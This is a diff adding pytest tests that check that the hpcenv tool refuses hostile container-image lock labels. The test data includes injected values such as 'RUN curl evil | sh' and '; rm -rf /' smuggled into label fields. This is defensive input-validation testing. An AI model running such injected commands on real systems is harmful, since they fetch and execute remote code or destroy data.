@@ -186,3 +186,77 @@ def test_podman_user_recipe_on_the_hpcenv_built_image(tmp_path: Path) -> None:
         assert out == ["0.9.0", base_torch.split("+")[0]]
     finally:
         subprocess.run(["podman", "rmi", "-f", tag], capture_output=True, env=engine_env())
+
+
+def _hostile(built_json: str) -> list[tuple[str, str]]:
+    """Labels an image anyone built could carry, and the words of the one-line refusal."""
+    doc = json.loads(built_json)
+    user = json.loads(built_json)
+    user["build"]["user"] = "hpc\nRUN curl evil | sh"
+    version = json.loads(built_json)
+    version["components"]["torch"]["version"] = "2.13.0 ; rm -rf /"
+    build = json.loads(built_json)
+    build["build"]["extra"] = "a b"
+    deep: object = 1
+    for _ in range(200):
+        deep = [deep]
+    return [
+        ("{not json", "not JSON"),
+        (json.dumps(user), "control character"),
+        (json.dumps(version), "components.torch.version"),
+        (json.dumps(build), "build.extra"),
+        (json.dumps({**doc, "components": deep}), "nested too deep"),
+        ("x" * ((1 << 20) + 1), "at most"),
+        (json.dumps({**doc, "schema": 2}), "schema"),
+    ]
+
+
+def test_a_hostile_lock_label_is_refused_in_one_line(tmp_path: Path) -> None:
+    """The label is read back from an image anyone may have built: nothing of it reaches a
+    Dockerfile unless it has the shape hpcenv writes."""
+    site = load_site("local")
+    built = resolve(site, load_recipe("horovod-cpu")).to_json()
+    recipe = load_recipe(str(recipe_file(tmp_path, LOCAL, extends="horovod-cpu")))
+    for text, words in _hostile(built):
+        with pytest.raises(ConfigError) as err:
+            resolve_on_base(site, recipe, {}, LOCAL, inspect=lambda image, t=text: {LOCK_LABEL: t})
+        line = str(err.value)
+        assert "\n" not in line and f"its {LOCK_LABEL} label is not a lock" in line, line
+        assert words in line, (words, line)
+
+
+@pytest.mark.podman
+def test_podman_image_with_a_planted_lock_label_is_refused(tmp_path: Path) -> None:
+    """A real image whose lock label was planted (a newline in the user a USER line would name):
+    the installed hpcenv exits 2 with one line and writes nothing."""
+    need_image(LOCAL, "an image with a planted label on top of the local one")
+    from hpcenv.engines import engine_env
+
+    built = resolve(load_site("local"), load_recipe("horovod-cpu")).to_json()
+    doc = json.loads(built)
+    doc["build"]["user"] = "hpc\nRUN echo planted"
+    tag = "localhost/hpcenv/planted-label:test"
+    ctx = tmp_path / "ctx"
+    ctx.mkdir()
+    (ctx / "Containerfile").write_text(
+        f"FROM {LOCAL}\nLABEL {LOCK_LABEL}={json.dumps(json.dumps(doc))}\n", encoding="utf-8"
+    )
+    made = subprocess.run(
+        ["podman", "build", "-q", "-t", tag, str(ctx)],
+        capture_output=True,
+        text=True,
+        env=engine_env(),
+    )
+    assert made.returncode == 0, made.stderr
+    try:
+        folder = tmp_path / "proj"
+        folder.mkdir()
+        recipe_file(folder, tag, extends="horovod-cpu")
+        out = folder / "out"
+        proc = run("render", "-s", "local", "-r", "./proj.yaml", "--out", str(out), cwd=folder)
+        assert proc.returncode == 2, proc.stdout + proc.stderr
+        (line,) = proc.stderr.strip().splitlines()
+        assert f"its {LOCK_LABEL} label is not a lock" in line and "control character" in line
+        assert not out.exists()
+    finally:
+        subprocess.run(["podman", "rmi", "-f", tag], capture_output=True, env=engine_env())
